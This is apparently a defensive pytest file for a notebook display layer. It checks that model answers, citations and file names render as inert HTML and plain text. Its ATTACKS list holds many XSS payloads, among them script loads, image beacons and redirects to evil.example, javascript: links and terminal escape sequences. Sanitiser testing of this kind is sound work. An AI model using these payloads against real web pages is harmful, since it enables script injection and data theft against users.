"""What is shown can do nothing: model text, document text, names of files, whatever they hold."""

from __future__ import annotations

import time
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from uait_kernel.display.answer import ANSWER_MIME, NOT_CHECKED
from uait_kernel.display.markdown import render_markdown
from uait_kernel.display.page import STYLE, Markup, element, plain_table, shorten, size
from uait_kernel.results.answer import Answer, AnswerDetails, Usage
from uait_kernel.results.knowledge import (
    Citation,
    Collections,
    CollectionStatus,
    Hit,
    Hits,
    IngestSummary,
    Place,
    UnfinishedFile,
)
from uait_kernel.results.models import Model, Models
from uait_kernel.results.shown import Bundle

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/logout)",
    "[click](//evil.example/x)",
    "[click](../api/kernels)",
    '[click](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    "![alt](https://evil.example/pixel.png?text=secret)",
    "![<script>alert(1)</script>](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://ok.example/?q=<script>>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<form action=/shutdown method=post><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "| a |\n| - |\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\x1b]0;title\x07\x1b[2Jcleared",
    "$\\href{javascript:alert(1)}{x}$",
]
TEXT_TAGS = {"p", "br", "hr", "h4", "h5", "h6", "strong", "em", "s", "code", "pre", "a", "q", "bdi"}
BLOCK_TAGS = {"style", "div", "span", "blockquote", "ul", "ol", "li", "progress"}
TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_TAGS = TEXT_TAGS | BLOCK_TAGS | TABLE_TAGS
ALLOWED_ATTRIBUTES = {"class", "title", "href", "rel", "target", "value", "max", "start", "scope"}


class Page(HTMLParser):
    """Collects what a browser would find in an output."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("instruction", {}))

    @property
    def text(self) -> str:
        return "".join(self.words)


def assert_harmless(html: str) -> Page:
    """Fail on any element, attribute or link that could act."""
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if "href" in attributes:
            assert tag == "a"
            assert (attributes["href"] or "").lower().startswith(("http://", "https://", "mailto:"))
        if tag == "a":
            assert "noopener" in (attributes.get("rel") or "")
    return page


def assert_quiet(plain: str) -> None:
    """Fail on a control character: a terminal would obey it."""
    assert not [char for char in plain if ord(char) < 32 and char not in "\n\t"]
    assert not [char for char in plain if 0x7F <= ord(char) <= 0x9F]
    plain.encode()


def citation(attack: str, number: int = 1) -> Citation:
    return Citation(number, f"dir/{attack}.md", attack, Place(label=attack), attack)


def every_bundle(attack: str) -> list[Bundle]:
    """Return one of each output with the attack wherever a server could put text."""
    place = Place(label=attack)
    answer = Answer(
        attack,
        AnswerDetails(
            question=attack,
            collection=attack,
            extract=attack,
            phrasing=attack,
            citations=(citation(attack),),
            model=attack,
            backend=attack,
            notices=(attack,),
        ),
    )
    plain = Answer(attack, AnswerDetails(state="failed", error=attack))
    file = UnfinishedFile(attack, attack)
    status = CollectionStatus(attack, 1, 2, attack, (attack,), (file,), (file,))
    summary = IngestSummary(attack, files=3, reported=1, latest=attack, failed=(file,))
    model = Model(attack, attack, attack, attack, attack, state=attack, backend=attack, note=attack)
    return [
        answer.bundle(),
        plain.bundle(),
        Hits((Hit(attack, attack, place, attack, 0.5),), attack, attack).bundle(),
        Hits((), attack, attack).bundle(),
        status.bundle(),
        Collections((status,)).bundle(),
        summary.bundle(),
        replace(summary, state="stopped").bundle(),
        replace(summary, state="done").bundle(),
        Models((model,)).bundle(),
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_output_can_act(attack: str) -> None:
    for bundle in every_bundle(attack):
        assert_harmless(bundle.html.replace(STYLE, ""))
        assert_quiet(bundle.plain)
        assert bundle.html.startswith(STYLE)


@given(st.text())
def test_no_text_at_all_can_act(text: str) -> None:
    for bundle in every_bundle(text):
        assert_harmless(bundle.html.replace(STYLE, ""))
        assert_quiet(bundle.plain)


PIECES = [
    "<",
    ">",
    '"',
    "'",
    "&",
    "`",
    "[x](",
    ")",
    "!",
    "*",
    "_",
    "\n",
    "|",
    "-",
    "#",
    "javascript:",
]
PIECES += ["<script>", "</", "onerror=", "https://a.b", "data:", "<!--", "\\", " ", "x", "```"]


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_no_markdown_can_act(text: str) -> None:
    assert_harmless(render_markdown(text))


def test_formatting_survives() -> None:
    html = render_markdown(
        "# Title\n\nSome **bold**, *soft* and `code`.\n\n1. one\n2. two\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```\n\n[site](https://ok.example/?a=1&b=2)"
    )
    page = assert_harmless(html)
    assert {"h4", "strong", "em", "code", "ol", "li", "blockquote", "table", "td", "pre"} <= {
        tag for tag, _ in page.tags
    }
    assert "x < 1" in page.text
    links = [attributes for tag, attributes in page.tags if tag == "a"]
    assert links == [
        {
            "href": "https://ok.example/?a=1&b=2",
            "rel": "noopener noreferrer nofollow",
            "target": "_blank",
        }
    ]


def test_images_are_named_not_loaded() -> None:
    assert Page(render_markdown("![a chart](https://x.example/c.png)")).text.strip() == (
        "[image: a chart]"
    )


def test_escaped_text_shows_as_it_was_written() -> None:
    attack = "<b>&amp;</b>"
    (bundle,) = [Answer("x", AnswerDetails(collection="c", extract=attack)).bundle()]
    assert attack in Page(bundle.html).text


@pytest.mark.parametrize("unit", ["[", "![", "*a_", "> ", "<", "- a\n", "|", "[a]("])
def test_hostile_text_takes_time_by_its_length_only(unit: str) -> None:
    def spent(length: int) -> float:
        text = (unit * length)[:length]
        times = []
        for _ in range(2):
            began = time.process_time()
            render_markdown(text)
            times.append(time.process_time() - began)
        return min(times)

    assert spent(16_000) < 8 * spent(4_000) + 0.1  # four times, were it exact; squared: sixteen


def test_huge_text_is_shown_as_it_is() -> None:
    text = "[**x**" * 500_000
    page = assert_harmless(render_markdown(text))
    assert page.text == text
    assert [tag for tag, _ in page.tags] == ["pre"]


def full_answer(**changes: Any) -> Answer:
    details = AnswerDetails(
        question="how? secret-value",
        collection="docs",
        extract="One command.",
        phrasing="Use **make**.",
        citations=(citation("a", 1), citation("b", 3)),
        model="echo",
        backend="echo",
        usage=Usage(1_200, 34),
        seconds=1.5,
        first_token_seconds=0.25,
    )
    return Answer("One command.\n\nUse **make**.", replace(details, **changes))


def test_an_answer_shows_words_sources_and_figures() -> None:
    bundle = full_answer().bundle()
    assert bundle.plain == (
        f"“One command.”\n\n{NOT_CHECKED}\n\nUse **make**.\n\n"
        "Sources:\n[1] dir/a.md, a: “a”\n[3] dir/b.md, b: “b”"
    )
    page = Page(bundle.html)
    assert "echo, 1,200 tokens in, 34 out" in page.text
    assert [tag["value"] for name, tag in page.tags if name == "li"] == ["1", "3"]


def test_an_answer_carries_its_provenance() -> None:
    bundle = full_answer().bundle()
    assert bundle.metadata["uait"] == {
        "generated": True,
        "model": "echo",
        "backend": "echo",
        "collection": "docs",
        "state": "done",
        "usage": {"prompt_tokens": 1_200, "completion_tokens": 34},
        "seconds": 1.5,
        "first_token_seconds": 0.25,
    }
    assert full_answer(phrasing=None, model=None).bundle().metadata["uait"]["generated"] is False
    chat = Answer("words", AnswerDetails(model="echo")).bundle()
    assert chat.metadata["uait"]["generated"] is True


def test_saved_outputs_hold_no_times_and_no_question() -> None:
    bundle = full_answer().bundle()
    assert not {"seconds", "first_token_seconds", "question"} & set(bundle.data[ANSWER_MIME])
    for shown in (bundle.html, bundle.plain):
        assert "1.5" not in shown.replace(STYLE, "")
        assert "secret-value" not in shown
    assert bundle.data[ANSWER_MIME]["citations"][0]["path"] == "dir/a.md"


@pytest.mark.parametrize(
    ("changes", "mark"),
    [
        ({"state": "stopped"}, "Stopped: this is only a part."),
        ({"state": "failed", "error": "Gone."}, "Broken off: this is only a part. Gone."),
        ({"finish_reason": "length"}, "Cut at the limit of tokens"),
        ({"notices": ("{{x}}: cut.",)}, "{{x}}: cut."),
    ],
)
def test_marks_on_what_is_not_whole(changes: dict[str, Any], mark: str) -> None:
    bundle = full_answer(**changes).bundle()
    assert mark in Page(bundle.html).text
    assert mark in bundle.plain


def test_a_growing_answer_only_grows() -> None:
    frames = [
        full_answer(state="streaming", phrasing=None),
        full_answer(state="streaming", phrasing="Use"),
        full_answer(state="streaming", phrasing="Use **make**."),
        full_answer(),
    ]
    plains = [frame.bundle().plain for frame in frames]
    assert all(later.startswith(earlier) for earlier, later in pairwise(plains))


def test_nothing_before_the_first_word() -> None:
    bundle = Answer("", AnswerDetails(state="stopped")).bundle()
    assert "Stopped before the first word." in bundle.plain


def test_long_lists_of_files_are_cut() -> None:
    files = tuple(UnfinishedFile(f"f{number}", "bad") for number in range(50))
    bundle = IngestSummary("c", state="done", failed=files).bundle()
    assert "f19" in bundle.plain
    assert "f20" not in bundle.plain
    assert "and 30 more" in bundle.plain
    assert "and 30 more" in Page(bundle.html).text


def test_what_is_left_to_do_is_told() -> None:
    waiting = CollectionStatus("c", pending=(UnfinishedFile("x"),))
    assert "`%kb resume -c c` goes on" in waiting.bundle().plain
    assert "being added" in replace(waiting, ingesting=True).bundle().plain
    assert "resume" not in CollectionStatus("c").bundle().plain
    assert "%kb add PATH" in Collections(()).bundle().plain
    assert "no model" in Models(()).bundle().plain


def test_small_forms() -> None:
    assert plain_table(("a", "b"), [("x\ny", 1_000), ("", 0.5)]) == (
        "a    b\n---  -----\nx y  1,000\n     0.50"
    )
    assert [size(n) for n in (0, 999, 12_345, 1_500_000, 2 * 10**9, 3 * 10**12)] == [
        "0 B",
        "999 B",
        "12 kB",
        "1.5 MB",
        "2.0 GB",
        "3.0 TB",
    ]
    assert shorten("one two three", 8) == "one …"
    assert shorten("onetwothree", 4) == "onet …"
    assert element("p", Markup("<b>"), "<b>", class_='a"b') == (
        '<p class="a&quot;b"><b>&lt;b&gt;</p>'
    )
